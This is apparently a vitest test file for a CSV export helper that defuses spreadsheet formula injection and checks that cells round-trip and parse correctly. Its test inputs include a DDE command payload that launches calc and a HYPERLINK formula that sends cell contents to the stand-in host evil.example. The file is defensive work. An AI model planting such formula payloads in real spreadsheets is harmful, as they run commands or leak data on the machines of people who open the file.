import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvCellText, csvCellValue, csvFile } from './csv';

describe('csv writer', () => {
  it('neutralises every text cell a spreadsheet would read as a formula', () => {
    for (const formula of [
      '=1+1',
      "+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1+1',
      '\n=1+1',
      '=HYPERLINK("http://evil.example/?"&A1,"点击")',
      '-',
      '+86 21 5555 0000',
    ]) {
      expect(csvCellText(formula), JSON.stringify(formula)).toBe(`'${formula}`);
    }
  });

  it('leaves ordinary text, numbers and plain decimal strings as they are: a negative amount stays a figure', () => {
    for (const text of ['华东精密', 'a=b', ' =1', '1+1', '（+50%）', '']) expect(csvCellText(text)).toBe(text);
    expect(csvCellText(-12.5)).toBe('-12.5');
    expect(csvCellText(0)).toBe('0');
    expect(csvCellText('-100.00')).toBe('-100.00');
    expect(csvCellText('+3')).toBe('+3');
    expect(csvCellText('-3（-50%）')).toBe("'-3（-50%）");
    expect(csvCellText(null)).toBe('');
    expect(csvCellText(undefined)).toBe('');
    expect(csvCellText(Number.NaN)).toBe('');
  });

  it('is undone exactly by csvCellValue, also for text that began with quotes itself', () => {
    for (const value of ['=1+1', '+86 21 5555 0000', "'=already quoted", "''+two", "'plain", 'plain', '-100.00', "'"]) {
      expect(csvCellValue(csvCellText(value)), value).toBe(value);
    }
  });

  it('writes a file with a BOM, quoting what CSV needs quoted, that parses back cell for cell', () => {
    const file = csvFile([
      ['名称', '金额', '备注'],
      ['=cmd', -5, '逗号,引号"换行\n'],
      [null, 1.5, '@x'],
    ]);
    expect(file.startsWith('\uFEFF')).toBe(true);
    expect(parse(file, { bom: true })).toEqual([
      ['名称', '金额', '备注'],
      ["'=cmd", '-5', '逗号,引号"换行\n'],
      ['', '1.5', "'@x"],
    ]);
  });
});
